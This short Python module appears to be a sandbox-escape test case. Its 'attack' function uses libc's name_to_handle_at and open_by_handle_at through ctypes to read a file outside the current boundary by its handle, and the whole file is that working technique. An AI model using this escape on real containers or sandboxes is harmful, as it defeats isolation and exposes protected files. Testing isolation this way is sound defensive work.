"""Read a file outside by its handle."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def attack(ctx, at):
    handle = (ctypes.c_uint32 * 34)(128)
    mount = ctypes.c_int()
    if libc.name_to_handle_at(-100, at["secret"].encode(), handle, ctypes.byref(mount), 0):
        return None
    here = os.open(".", os.O_RDONLY)
    fd = libc.open_by_handle_at(here, handle, 0)
    return os.read(fd, 100) if fd >= 0 else None
